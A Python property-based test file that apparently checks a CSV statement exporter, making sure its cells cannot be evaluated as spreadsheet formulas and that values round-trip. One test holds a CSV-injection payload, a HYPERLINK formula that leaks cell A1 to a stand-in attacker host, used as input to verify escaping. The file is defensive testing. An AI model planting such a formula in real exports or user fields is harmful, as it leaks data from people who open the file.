"""``atto-admin statement --csv``: no cell a spreadsheet would evaluate as a formula (OWASP's
CSV Injection list), and the CSV reads back, with Python's csv module, as what was written."""

from __future__ import annotations

import csv
import io
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from atto_admin.output import CSV_COLUMNS, FORMULA_STARTS, csv_value, statement_csv

#: Text as a user's Idempotency-Key, a route, a plan or a grant reference might hold it, the
#: characters a spreadsheet or the CSV format treat specially made likely.
TEXT = st.text(st.sampled_from("=+-@'\t\r\n\",; aZ0(|)!\x00é") | st.characters(),
               max_size=12)
CREDIT = st.lists(st.fixed_dictionaries({"reference": TEXT, "tokens": st.integers(0, 10**6)}),
                  max_size=2)
RECORD = st.fixed_dictionaries({
    "request_id": TEXT, "at": TEXT, "route": TEXT, "plan": st.none() | TEXT, "state": TEXT,
    "cost": st.integers(0, 10**6), "kept": st.integers(0, 10**6),
    "refunded": st.integers(0, 10**6), "credit": CREDIT, "changed_at": st.none() | TEXT})


def _expected(r: dict[str, Any]) -> list[str]:
    credit = " ".join(f"{c['reference']}={c['tokens']}" for c in r["credit"])
    return ["" if v is None else str(v) for v in (
        r["request_id"], r["at"], r["route"], r["plan"], r["state"], r["cost"], r["kept"],
        r["refunded"], credit, r["changed_at"] or "")]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@settings(max_examples=150, deadline=None)
@given(st.lists(RECORD, max_size=4))
def test_the_csv_reads_back_and_no_cell_starts_a_formula(records: list[dict[str, Any]]
                                                         ) -> None:
    """Any records: every cell read back by the csv module begins with none of OWASP's
    formula characters, and dropping its escape gives back each value as written."""
    rows = _rows(statement_csv({"records": records}))
    assert rows[0] == list(CSV_COLUMNS)
    assert len(rows) == len(records) + 1
    for row, record in zip(rows[1:], records, strict=True):
        assert [cell for cell in row if cell.startswith(FORMULA_STARTS[:-1])] == []
        assert [csv_value(cell) for cell in row] == _expected(record)


def test_an_idempotency_key_written_as_a_formula_is_text() -> None:
    """A request id ``=HYPERLINK(...)`` is written as the quoted cell ``'=HYPERLINK(...)``."""
    key = '=HYPERLINK("https://evil.example/?x="&A1,"refund")'
    record = {"request_id": key, "at": "2026-12-03T10:00:00Z", "route": "POST /v1/embeddings",
              "plan": "free", "state": "posted", "cost": 1, "kept": 1, "refunded": 0,
              "credit": [], "changed_at": None}
    text = statement_csv({"records": [record]})
    assert text.splitlines()[1].startswith('"\'=HYPERLINK(""https://evil.example/')
    assert _rows(text)[1][0] == "'" + key
